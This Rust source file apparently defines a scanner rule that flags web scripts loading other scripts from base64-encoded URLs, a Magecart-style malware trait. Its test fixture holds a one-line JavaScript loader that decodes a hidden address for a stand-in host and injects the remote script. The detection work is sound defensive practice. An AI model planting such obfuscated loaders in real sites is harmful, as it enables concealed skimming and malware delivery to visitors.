//! `script-from-coded-address`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "script-from-coded-address",
    description: "The script loads another script from an encoded URL.",
    severity: Severity::Medium,
    classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
    needs: &[one(&[Atom::ScriptFromCoded])],
    within: 0,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9jb2RlZC1ob3N0LmV4YW1wbGUvYS5qcw==');document.head.appendChild(s)"#,
        ],
        without: &[
            r#"var s=document.createElement('script');s.src='https://'+'coded-host.example/a.js';document.head.appendChild(s)"#,
        ],
    },
};
